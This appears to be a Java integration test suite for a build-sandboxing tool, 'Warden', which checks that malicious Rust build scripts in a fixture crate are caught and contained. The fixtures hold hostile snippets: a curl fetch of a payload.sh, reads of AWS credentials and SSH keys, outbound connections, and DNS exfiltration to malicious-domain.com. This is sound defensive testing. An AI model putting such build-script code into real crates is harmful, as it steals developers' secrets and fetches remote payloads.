package dev.warden.limit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.warden.cli.Main;
import dev.warden.core.Environment;
import dev.warden.evaluate.source.CrateArchive;
import dev.warden.expose.EventStore;
import dev.warden.core.store.StoreLocation;
import dev.warden.fortify.gate.DecisionLog;
import dev.warden.testing.AttackCrates;
import dev.warden.testing.AttackProject;
import dev.warden.testing.CargoTool;
import dev.warden.testing.CrateFiles;
import dev.warden.testing.Fixtures;
import dev.warden.testing.KilledRuns;
import dev.warden.testing.LoopbackServer;
import dev.warden.testing.PostgresServer;
import dev.warden.testing.ReportSchema;
import dev.warden.testing.TestEnv;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * warden build end to end: real cargo building crates written here, inside a real bubblewrap sandbox,
 * watched by the real strace. Skipped where cargo, strace or a sandbox is missing (.ci/run installs them).
 */
class BuildSandboxTest {

    /** A secret as the caller has it: it must never reach the build. */
    static final String REAL_SECRET = "wJalrXUtnFEMI-REAL-SECRET-K7MDENGbPxRfiCY";

    @TempDir
    Path dir;

    private static Path cargo;

    @BeforeAll
    static void tools() {
        cargo = SandboxedCargo.require();
    }

    record Run(int status, String out, String err) {
        /** The report, which must match the published schema (build, events, ir reports). */
        JsonNode json() throws Exception {
            JsonNode report = new ObjectMapper().readTree(out);
            ReportSchema.assertValid(report);
            return report;
        }
    }

    /** The caller's environment: real toolchain, a home of the test's own, and a secret that must stay out. */
    private Map<String, String> callerEnv() {
        Map<String, String> env = new HashMap<>();
        env.put("PATH", cargo.getParent() + ":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
        Path realHome = Path.of(System.getProperty("user.home"));
        env.put("CARGO_HOME", System.getenv().getOrDefault("CARGO_HOME", realHome.resolve(".cargo").toString()));
        env.put("RUSTUP_HOME", System.getenv().getOrDefault("RUSTUP_HOME", realHome.resolve(".rustup").toString()));
        env.put("AWS_SECRET_ACCESS_KEY", REAL_SECRET);
        env.put("LANG", "C.UTF-8");
        return env;
    }

    private Run warden(Map<String, String> env, Path workdir, String... args) {
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int status = Main.run(args, new PrintWriter(out), new PrintWriter(err),
                TestEnv.at(workdir, dir.resolve("home"), env));
        return new Run(status, out.toString(), err.toString());
    }

    /** Where a project's store is by default: under the test's home, outside the project. */
    private Path store(Path project) {
        return EventStore.defaultFile(TestEnv.at(project, dir.resolve("home"), Map.of()), project);
    }

    /** The attack project with url-parse written by {@code urlParse}, locked at 2.1.1. */
    private Path project(Consumer<Path> urlParse) {
        Path app = AttackProject.write(dir, urlParse);
        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
        return app;
    }

    private Run build(Path app, String... extra) {
        List<String> args = new ArrayList<>(List.of("build", "--format", "json"));
        args.addAll(List.of(extra));
        args.addAll(List.of("--", "cargo", "build", "--locked"));
        return warden(callerEnv(), app, args.toArray(String[]::new));
    }

    private static List<JsonNode> events(JsonNode report, String kind, String crate) {
        List<JsonNode> events = new ArrayList<>();
        report.path("events").forEach(e -> {
            if (e.path("kind").asText().equals(kind) && (crate == null || crate.equals(e.path("crate").asText()))) {
                events.add(e);
            }
        });
        return events;
    }

    private static List<String> ids(JsonNode report) {
        List<String> ids = new ArrayList<>();
        report.path("findings").forEach(f -> ids.add(f.path("id").asText() + ":" + f.path("crate").asText()));
        return ids;
    }

    private static String decodedLabels(String name) {
        String[] labels = name.split("\\.");
        String data = String.join("", Arrays.copyOf(labels, labels.length - 2));
        return new String(Base64.getUrlDecoder().decode(data + "=".repeat((4 - data.length() % 4) % 4)),
                StandardCharsets.ISO_8859_1);
    }

    private void assertSeedAttackCaught(Run run) throws Exception {
        assertThat(run.status()).as(run.err()).isEqualTo(Main.EXIT_FINDINGS);
        JsonNode report = run.json();
        List<JsonNode> dns = events(report, "dns", "url-parse");
        assertThat(dns).isNotEmpty();
        assertThat(dns.getFirst().path("role").asText()).isEqualTo("build script");
        String query = dns.getFirst().path("target").asText();
        assertThat(query).endsWith(".malicious-domain.com");
        String loot = decodedLabels(query);
        // What left was a decoy shaped like the secret: the caller's value never reached the build script.
        assertThat(loot).doesNotContain(REAL_SECRET).matches("[A-Za-z0-9]{40};ghp_[A-Za-z0-9]{36};");
        JsonNode alert = report.path("findings").get(0);
        assertThat(alert.path("id").asText()).isEqualTo("dns-exfiltration");
        assertThat(alert.path("severity").asText()).isEqualTo("critical");
        assertThat(alert.path("crate").asText()).isEqualTo("url-parse");
        assertThat(alert.path("secrets").asText()).isEqualTo("AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN");
        assertThat(report.path("removedVariables").toString()).contains("AWS_SECRET_ACCESS_KEY");
        assertThat(report.path("metrics").path("blockedEgress").asInt()).isPositive();
        assertThat(report.path("metrics").path("detectionLatencyMs").asDouble()).isBetween(0.0, 10_000.0);
        assertThat(Files.readString(store(dir.resolve("app")), StandardCharsets.ISO_8859_1))
                .doesNotContain(REAL_SECRET);
        assertThat(dir.resolve("app/target/warden/events.db")).as("nothing the build can write").doesNotExist();
    }

    @Test
    void theSeedAttackIsCaughtAndTheSecretNeverReachesTheBuildScript() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
        Run run = build(app);
        assertSeedAttackCaught(run);
        assertThat(run.json().path("protection").asText()).startsWith("bubblewrap");

        Run text = warden(callerEnv(), app, "events", "--kind", "dns");
        assertThat(text.out()).contains("dns      build script  url-parse", "malicious-domain.com",
                "ALERT critical dns-exfiltration");
        Run ecs = warden(callerEnv(), app, "events", "--export", "ecs", "--kind", "dns");
        String[] lines = ecs.out().strip().split("\n");
        JsonNode first = new ObjectMapper().readTree(lines[0]);
        assertThat(first.path("event").path("action").asText()).isEqualTo("dns");
        assertThat(first.path("dns").path("question").path("registered_domain").asText()).isEqualTo("malicious-domain.com");
        assertThat(first.path("package").path("name").asText()).isEqualTo("url-parse");
        JsonNode alert = new ObjectMapper().readTree(lines[lines.length - 1]);
        assertThat(alert.path("event").path("kind").asText()).isEqualTo("alert");
        assertThat(alert.path("rule").path("id").asText()).isEqualTo("dns-exfiltration");
        assertThat(alert.path("event").path("severity").asInt()).isEqualTo(99);
    }

    @Test
    void aConnectionToAnIpLiteralIsBlockedAndReported() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, """
                fn main() {
                    let address = "203.0.113.7:443".parse().unwrap();
                    let _ = std::net::TcpStream::connect_timeout(&address, std::time::Duration::from_secs(2));
                }
                """));
        JsonNode report = build(app).json();
        List<JsonNode> connects = events(report, "connect", "url-parse");
        assertThat(connects).singleElement().satisfies(e -> {
            assertThat(e.path("target").asText()).isEqualTo("203.0.113.7:443");
            assertThat(e.path("error").asText()).isEqualTo("ENETUNREACH");
        });
        assertThat(ids(report)).containsExactly("egress-attempt:url-parse");
    }

    @Test
    void curlIsRunButGoesNowhere() throws Exception {
        Assumptions.assumeTrue(SandboxProbe.which(Environment.system(), "curl").isPresent(), "curl missing");
        Path app = project(d -> AttackCrates.urlParse(d, """
                fn main() {
                    let _ = std::process::Command::new("curl")
                        .args(["-s", "-m", "3", "http://203.0.113.9/payload.sh"]).status();
                }
                """));
        JsonNode report = build(app).json();
        List<JsonNode> execs = events(report, "exec", "url-parse").stream()
                .filter(e -> e.path("target").asText().endsWith("/curl")).toList();
        assertThat(execs).as(report.path("events").toString()).isNotEmpty();
        assertThat(execs.getFirst().path("detail").asText()).isEqualTo("curl -s -m 3 http://203.0.113.9/payload.sh");
        assertThat(events(report, "connect", "url-parse")).anySatisfy(e ->
                assertThat(e.path("target").asText()).isEqualTo("203.0.113.9:80"));
        assertThat(ids(report)).contains("network-tool-run:url-parse", "egress-attempt:url-parse");
    }

    @Test
    void aProcMacroLookupIsPinnedOnTheMacro() throws Exception {
        Path app = AttackProject.write(dir, AttackCrates::urlParseMacro);
        Path utilities = dir.resolve("vendor/rust-utilities-v2-2.1.1");
        Fixtures.write(utilities, "src/lib.rs", """
                #[derive(url_parse::Parse)]
                pub struct Config;

                pub fn normalize(text: &str) -> String {
                    text.trim().to_lowercase()
                }
                """);
        Fixtures.write(app, "Cargo.lock", AttackProject.lockfile(true));
        JsonNode report = build(app).json();
        List<JsonNode> dns = events(report, "dns", "url-parse");
        assertThat(dns).isNotEmpty().allSatisfy(e -> assertThat(e.path("role").asText()).isEqualTo("proc macro"));
        assertThat(ids(report)).contains("egress-attempt:url-parse");
        JsonNode alert = report.path("findings").get(0);
        assertThat(alert.path("message").asText()).contains("proc macro url-parse (compiling rust-utilities-v2)");
    }

    @Test
    void credentialFilesAreDecoysAndReadingThemIsReported() throws Exception {
        Fixtures.write(dir, "home/.aws/credentials", "[default]\naws_secret_access_key = " + REAL_SECRET + "\n");
        Path app = project(d -> AttackCrates.urlParse(d, """
                fn main() {
                    let home = std::env::var("HOME").unwrap();
                    let stolen = std::fs::read_to_string(format!("{}/.aws/credentials", home)).unwrap_or_default();
                    let out = std::env::var("OUT_DIR").unwrap();
                    std::fs::write(format!("{}/seen", out), stolen).unwrap();
                }
                """));
        JsonNode report = build(app).json();
        assertThat(events(report, "file", "url-parse")).singleElement().satisfies(e ->
                assertThat(e.path("target").asText()).isEqualTo(dir.resolve("home/.aws/credentials").toString()));
        assertThat(ids(report)).containsExactly("secret-file-access:url-parse");
        Path seen;
        try (var walk = Files.walk(app.resolve("target"))) {
            seen = walk.filter(p -> p.getFileName().toString().equals("seen")).findFirst().orElseThrow();
        }
        assertThat(Files.readString(seen)).contains("aws_secret_access_key = ").doesNotContain(REAL_SECRET);
    }

    @Test
    void aChildThatTriesToOutliveTheBuildIsKilledAndReported() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, """
                fn main() {
                    let _ = std::process::Command::new("sh")
                        .args(["-c", "sleep 317 </dev/null >/dev/null 2>&1 &"]).status();
                }
                """));
        JsonNode report = build(app).json();
        assertThat(events(report, "outlived", "url-parse")).anySatisfy(e ->
                assertThat(e.path("target").asText()).isEqualTo("sleep"));
        assertThat(ids(report)).contains("outlived-build:url-parse");
        assertThat(ProcessHandle.allProcesses().map(p -> p.info().commandLine().orElse(""))
                .filter(c -> c.contains("sleep 317"))).isEmpty();
    }

    @Test
    void aBenignProjectBuildsUnchangedAndLearnsABaseline() throws Exception {
        Path app = AttackProject.write(dir, d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
        Path tool = dir.resolve("vendor/rust-utilities-v2-2.1.0");
        Fixtures.write(tool, "build.rs", """
                fn main() {
                    let status = std::process::Command::new("rustc").arg("--version").status().unwrap();
                    assert!(status.success());
                    println!("cargo:rerun-if-changed=build.rs");
                }
                """);
        Run first = build(app);
        assertThat(first.status()).as(first.err() + first.out()).isEqualTo(Main.EXIT_OK);
        assertThat(first.json().path("findings")).isEmpty();
        assertThat(first.json().path("exitCode").asInt()).isZero();
        assertThat(Files.isExecutable(app.resolve("target/debug/app"))).isTrue();

        // The build script now also runs a program no clean build ran: first seen, reported, not blocking. (Cargo
        // never rebuilds a vendored crate it has built, so the old build goes.)
        deleteRecursively(app.resolve("target/debug"));
        Fixtures.write(tool, "build.rs", """
                fn main() {
                    let status = std::process::Command::new("rustc").arg("--version").status().unwrap();
                    assert!(status.success());
                    let _ = std::process::Command::new("/bin/uname").arg("-a").status();
                }
                """);
        Run second = build(app);
        assertThat(second.status()).isEqualTo(Main.EXIT_OK);
        assertThat(ids(second.json())).containsExactly("first-seen-executable:rust-utilities-v2");
    }

    private static void deleteRecursively(Path path) throws IOException {
        try (var walk = Files.walk(path)) {
            for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
                Files.delete(p);
            }
        }
    }

    /** Every call the build script is known to make is in the log, once per call. */
    @Test
    void noEventIsLost() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, """
                use std::net::{TcpStream, ToSocketAddrs};
                use std::time::Duration;
                fn main() {
                    for port in [1, 2, 3] {
                        let address = format!("203.0.113.{}:{}", port, port).parse().unwrap();
                        let _ = TcpStream::connect_timeout(&address, Duration::from_millis(200));
                    }
                    let _ = "one.example.test:80".to_socket_addrs();
                    let _ = "two.example.test:80".to_socket_addrs();
                    for _ in 0..2 {
                        let _ = std::process::Command::new("/bin/true").status();
                    }
                    let home = std::env::var("HOME").unwrap();
                    let _ = std::fs::File::open(format!("{}/.ssh/id_ed25519", home));
                }
                """));
        JsonNode report = build(app).json();
        // Besides the three connections, only the resolver's socket (loopback, where queries are recorded).
        assertThat(events(report, "connect", "url-parse")).extracting(e -> e.path("target").asText())
                .filteredOn(t -> !t.equals("127.0.0.1:53"))
                .containsExactlyInAnyOrder("203.0.113.1:1", "203.0.113.2:2", "203.0.113.3:3");
        assertThat(events(report, "dns", "url-parse")).extracting(e -> e.path("target").asText())
                .containsOnly("one.example.test", "two.example.test").contains("one.example.test", "two.example.test");
        assertThat(events(report, "exec", "url-parse")).filteredOn(e -> e.path("target").asText().equals("/bin/true"))
                .hasSize(2);
        assertThat(events(report, "file", "url-parse")).singleElement().satisfies(e ->
                assertThat(e.path("target").asText()).endsWith("/.ssh/id_ed25519"));

        // The log holds the same events as the report.
        Run logged = warden(callerEnv(), app, "events", "--build", "latest", "--crate", "url-parse", "--format", "json");
        assertThat(logged.json().path("events")).hasSize(events(report, "connect", "url-parse").size()
                + events(report, "dns", "url-parse").size() + events(report, "exec", "url-parse").size()
                + events(report, "file", "url-parse").size());
    }

    /** The staged build: fetch from a registry (on loopback) with the network, then build offline in the sandbox. */
    @Test
    void stagedBuildFetchesWithTheNetworkThenBuildsOffline() throws Exception {
        Path source = dir.resolve("lib-src");
        Fixtures.write(source, "Cargo.toml", "[package]\nname = \"lib\"\nversion = \"1.0.0\"\nedition = \"2021\"\n");
        Fixtures.write(source, "src/lib.rs", "pub fn answer() -> u32 { 42 }\n");
        Path crate = CrateFiles.pack(source, dir.resolve("lib-1.0.0.crate"), "lib-1.0.0");
        try (LoopbackServer registry = new LoopbackServer()) {
            registry.serve("/config.json", "{\"dl\":\"" + registry.url() + "dl\"}");
            registry.serve("/3/l/lib", "{\"name\":\"lib\",\"vers\":\"1.0.0\",\"deps\":[],\"cksum\":\""
                    + CrateArchive.sha256(crate) + "\",\"features\":{},\"yanked\":false}\n");
            registry.serve("/dl/lib/1.0.0/download", Files.readAllBytes(crate));
            Path app = dir.resolve("staged");
            Fixtures.write(app, "Cargo.toml", "[package]\nname = \"staged\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n"
                    + "[dependencies]\nlib = { version = \"1\", registry = \"local\" }\n");
            Fixtures.write(app, "src/main.rs", "fn main() { println!(\"{}\", lib::answer()); }\n");
            Fixtures.write(app, ".cargo/config.toml", "[registries.local]\nindex = \"sparse+" + registry.url() + "\"\n");
            Map<String, String> env = callerEnv();
            env.put("CARGO_HOME", dir.resolve("cargo-home").toString());
            env.put("CARGO_NET_OFFLINE", "false"); // the fetch stage reaches the loopback registry
            CargoTool.Result lock = CargoTool.run(cargo, app, Map.of("CARGO_HOME", env.get("CARGO_HOME"),
                    "RUSTUP_HOME", env.get("RUSTUP_HOME")), "generate-lockfile");
            assertThat(lock.status()).as(lock.output()).isZero();

            Run fetched = warden(env, app, "fetch");
            assertThat(fetched.status()).as(fetched.err()).isEqualTo(Main.EXIT_OK);
            assertThat(fetched.err()).contains("fetching without AWS_SECRET_ACCESS_KEY");
            assertThat(registry.requests()).contains("/dl/lib/1.0.0/download");
            // The fetch ran under strace: what it contacted is the baseline egress-policy builds on.
            String endpoint = java.net.URI.create(registry.url()).getHost() + ":"
                    + java.net.URI.create(registry.url()).getPort();
            assertThat(fetched.out()).contains("contacted: " + endpoint);
            Run policy = warden(env, app, "egress-policy", "--format", "json");
            assertThat(policy.json().path("fetches").asInt()).isEqualTo(1);
            assertThat(policy.json().path("allowed").toString()).as("loopback is never egress")
                    .doesNotContain("127.0.0.1");

            Run built = warden(env, app, "build", "--format", "json");
            assertThat(built.status()).as(built.err()).isEqualTo(Main.EXIT_OK);
            assertThat(built.json().path("findings")).isEmpty();
            assertThat(Files.isExecutable(app.resolve("target/debug/staged"))).isTrue();
        }
    }

    @Test
    void withoutASandboxItRefusesUnlessToldAndThenSaysNothingIsProtected() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, "fn main() {}\n"));
        Map<String, String> bare = callerEnv();
        bare.put("PATH", cargo.getParent().toString());
        Run refused = warden(bare, app, "build");
        assertThat(refused.status()).isEqualTo(Main.EXIT_ERROR);
        assertThat(refused.err()).contains("refusing to build: bubblewrap is not installed", "--no-sandbox")
                .doesNotContain("Exception");
        Run unprotected = warden(bare, app, "build", "--no-sandbox", "--format", "json");
        assertThat(unprotected.err()).contains("NOTHING IS PROTECTED");
        assertThat(unprotected.json().path("protection").asText()).startsWith("NONE");
        assertThat(ids(unprotected.json())).containsExactly("build-unprotected:null");

        Files.delete(app.resolve("Cargo.lock"));
        Run unlocked = warden(callerEnv(), app, "build");
        assertThat(unlocked.status()).isEqualTo(Main.EXIT_ERROR);
        assertThat(unlocked.err()).contains("no lockfile: refusing to build dependencies that are not pinned");
    }

    @Test
    void incidentResponseAnswersFromTheStoreWhatTheCrateDidAndWhatToRotate() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
        Fixtures.write(app, "before.lock", AttackProject.lockfile(false));
        assertThat(warden(callerEnv(), app, "gate", "--base", "before.lock").status()).isEqualTo(Main.EXIT_FINDINGS);
        Run sandboxed = build(app);
        assertThat(sandboxed.status()).as(sandboxed.err()).isEqualTo(Main.EXIT_FINDINGS);
        // A developer who built it without Warden: its build script saw the real variable.
        deleteRecursively(app.resolve("target/debug"));
        warden(callerEnv(), app, "build", "--no-sandbox", "--", "cargo", "build", "--locked");

        Run ir = warden(callerEnv(), app, "ir", "url-parse@0.1.0", "--format", "json");
        assertThat(ir.status()).as(ir.err()).isEqualTo(Main.EXIT_OK);
        JsonNode report = ir.json();
        assertThat(report.path("gateRuns")).singleElement()
                .satisfies(run -> assertThat(run.path("blocked").asBoolean()).isTrue());
        assertThat(report.path("decisions").toString()).contains("exfiltration-pattern");
        assertThat(report.path("builds")).hasSize(2);
        JsonNode inSandbox = report.path("builds").get(0);
        assertThat(inSandbox.path("secretVariables").path("AWS_SECRET_ACCESS_KEY").asText()).isEqualTo("decoy");
        assertThat(inSandbox.path("alerts").toString()).contains("dns-exfiltration");
        assertThat(inSandbox.path("dns").toString()).contains(".malicious-domain.com");
        JsonNode unprotected = report.path("builds").get(1);
        assertThat(unprotected.path("sandbox").asText()).startsWith("NONE");
        assertThat(unprotected.path("secretVariables").path("AWS_SECRET_ACCESS_KEY").asText()).isEqualTo("real");
        assertThat(report.path("rotate").toString()).isEqualTo("[\"AWS_SECRET_ACCESS_KEY\"]");
        assertThat(report.path("checklist").get(0).path("action").asText()).startsWith("remove url-parse 0.1.0");
        assertThat(ir.out()).doesNotContain(REAL_SECRET);

        Run text = warden(callerEnv(), app, "ir", "url-parse");
        assertThat(text.out()).contains("resolved by 1 gate run", "ran in 2 monitored builds",
                "[ ] rotate now: AWS_SECRET_ACCESS_KEY", "[ ] purge cached copies");
        Run unknown = warden(callerEnv(), dir, "ir", "url-parse");
        assertThat(unknown.status()).isEqualTo(Main.EXIT_ERROR);
        assertThat(unknown.err()).contains("no store here yet");
    }

    /**
     * Issue 19's acceptance on a real PostgreSQL: a sandboxed, traced {@code warden build} of one project while two
     * other projects' gates write to the same store; nothing lost or doubled, and incident response from another
     * project finds the build. The store's password is the runner's, so the build must not see it either.
     */
    @Test
    void aBuildAndTwoGatesShareAPostgresStore() throws Exception {
        PostgresServer server = PostgresServer.start().orElse(null);
        Assumptions.assumeTrue(server != null, () -> "no PostgreSQL server: " + PostgresServer.failure());
        String url = server.newDatabase();
        Path app = project(d -> AttackCrates.urlParse(d, AttackCrates.EXFILTRATING_BUILD_SCRIPT));
        List<Path> gated = new ArrayList<>();
        for (String name : List.of("shop", "web")) {
            Path other = AttackProject.write(dir.resolve(name), d -> AttackCrates.urlParse(d,
                    AttackCrates.EXFILTRATING_BUILD_SCRIPT));
            Fixtures.write(other, "before.lock", AttackProject.lockfile(false));
            Fixtures.write(other, "Cargo.lock", AttackProject.lockfile(true));
            gated.add(other);
        }
        Map<String, String> runner = new HashMap<>(callerEnv());
        runner.putAll(Map.of("PGPASSWORD", PostgresServer.PASSWORD, "GITHUB_REPOSITORY", "acme/billing",
                "WARDEN_HOST", "runner-2", "GITHUB_RUN_ID", "314"));

        CompletableFuture<Run> building = CompletableFuture.supplyAsync(() -> warden(runner, app, "build",
                "--format", "json", "--store", url, "--", "cargo", "build", "--locked"));
        List<CompletableFuture<Run>> gates = gated.stream().map(other -> CompletableFuture.supplyAsync(() ->
                warden(Map.of("PGPASSWORD", PostgresServer.PASSWORD), other, "gate", ".", "--base", "before.lock",
                        "--store", url))).toList();
        Run build = building.get(10, TimeUnit.MINUTES);
        for (CompletableFuture<Run> gate : gates) {
            Run done = gate.get(5, TimeUnit.MINUTES);
            assertThat(done.status()).as(done.err()).isEqualTo(Main.EXIT_FINDINGS);
        }
        assertThat(build.status()).as(build.err()).isEqualTo(Main.EXIT_FINDINGS);
        JsonNode report = build.json();
        assertThat(report.path("removedVariables").toString()).contains("PGPASSWORD");

        StoreLocation shared = StoreLocation.parse(url, TestEnv.at(dir, dir.resolve("home"),
                Map.of("PGPASSWORD", PostgresServer.PASSWORD)), true);
        try (EventStore events = EventStore.open(shared, null);
             DecisionLog log = DecisionLog.open(shared, null)) {
            EventStore.BuildRow row = events.builds().getFirst();
            assertThat(events.builds()).hasSize(1);
            assertThat(row.status()).isEqualTo(EventStore.Status.FINISHED);
            assertThat(events.events(row.id(), null, null, 1_000_000)).as("every event the build reported")
                    .hasSize(report.path("events").size()).extracting(EventStore.Row::id).doesNotHaveDuplicates();
            assertThat(events.alerts(row.id())).extracting(EventStore.AlertRow::rule).contains("dns-exfiltration");
            assertThat(log.runs()).hasSize(2).extracting(DecisionLog.Run::project).containsExactlyInAnyOrder(
                    gated.get(0).toString(), gated.get(1).toString());
        }
        Run ir = warden(Map.of("PGPASSWORD", PostgresServer.PASSWORD), gated.getFirst(), "ir", "url-parse", ".",
                "--store", url);
        assertThat(ir.status()).as(ir.err()).isZero();
        assertThat(ir.out()).contains("resolved by 2 gate runs", "ran in 1 monitored build",
                app + " [acme/billing on runner-2 CI run 314]", ".malicious-domain.com")
                .doesNotContain(PostgresServer.PASSWORD, REAL_SECRET);
    }

    /** A build script that keeps running programs (one exec every 10 ms for a minute): a build to kill mid-way. */
    private static final String BUSY_BUILD_SCRIPT = """
            fn main() {
                for _ in 0..6000 {
                    let _ = std::process::Command::new("/bin/true").status();
                    std::thread::sleep(std::time::Duration::from_millis(10));
                }
            }
            """;

    /**
     * Issue 20's fault test: {@code warden build} killed with SIGKILL at random moments of its build script, 20 times.
     * Each time the store opens and holds the events up to about the last second, nothing the build started
     * outlives it, and the next build marks the killed one interrupted and removes its working directory.
     */
    @Test
    void aBuildKilledAtRandomMomentsLosesAtMostTheLastSecondAndLeavesNothingRunning() throws Exception {
        Path app = project(d -> AttackCrates.urlParse(d, BUSY_BUILD_SCRIPT));
        Path storeFile = dir.resolve("store.db");
        StoreLocation store = new StoreLocation.Sqlite(storeFile);
        java.util.Random random = new java.util.Random(20);
        String java = ProcessHandle.current().info().command().orElse("java");
        long previous = -1;
        long previousPid = -1;
        for (int kill = 0; kill < 20; kill++) {
            ProcessBuilder builder = new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"),
                    Main.class.getName(), "build", "--store", storeFile.toString(), "--", "cargo", "build",
                    "--locked").directory(app.toFile()).redirectErrorStream(true)
                    .redirectOutput(dir.resolve("build-" + kill + ".log").toFile());
            builder.environment().clear();
            builder.environment().putAll(callerEnv());
            builder.environment().put("HOME", dir.resolve("home").toString());
            Process warden = builder.start();
            long build = awaitBuildScript(store, previous, warden);
            if (previous >= 0) {
                long killed = previous;
                try (EventStore events = EventStore.existing(store, null)) {
                    assertThat(events.builds()).filteredOn(b -> b.id() == killed).singleElement()
                            .extracting(EventStore.BuildRow::status).as("marked by the next build")
                            .isEqualTo(EventStore.Status.INTERRUPTED);
                }
                assertThat(KilledRuns.runDirectories("build-", previousPid)).as("the killed build's working directory").isEmpty();
            }
            Thread.sleep(random.nextInt(2_000));
            long killedAt = System.currentTimeMillis();
            warden.destroyForcibly().waitFor(30, TimeUnit.SECONDS);

            assertThat(KilledRuns.processesUnder(dir.toString())).as("processes of the build still running after the kill").isEmpty();
            try (EventStore events = EventStore.existing(store, null)) {
                List<EventStore.Row> kept = events.events(build, null, "exec", 1_000_000);
                long newest = kept.stream().filter(e -> "/bin/true".equals(e.target()))
                        .mapToLong(EventStore.Row::micros).max().orElse(0);
                assertThat(killedAt * 1_000 - newest).as("microseconds of events lost (kill %d)", kill)
                        .isLessThan(2_000_000);
                assertThat(kept).extracting(EventStore.Row::id).doesNotHaveDuplicates();
            }
            previous = build;
            previousPid = warden.pid();
        }
        Run events = warden(callerEnv(), app, "events", "--store", storeFile.toString(), "--build", "latest");
        assertThat(events.status()).as(events.err()).isZero();
        assertThat(events.out()).contains("/bin/true");
    }

    /** Waits until a build after {@code after} is running its build script (its first exec of /bin/true). */
    private static long awaitBuildScript(StoreLocation store, long after, Process warden) throws Exception {
        for (int wait = 0; wait < 1_200; wait++) {
            assertThat(warden.isAlive()).as("warden build ended early").isTrue();
            if (java.nio.file.Files.exists(((StoreLocation.Sqlite) store).file())) {
                try (EventStore events = EventStore.existing(store, null)) {
                    for (EventStore.BuildRow build : events.builds()) {
                        if (build.id() > after && !events.events(build.id(), "url-parse", "exec", 1).isEmpty()) {
                            return build.id();
                        }
                    }
                }
            }
            Thread.sleep(100);
        }
        throw new AssertionError("the build script never ran");
    }
}
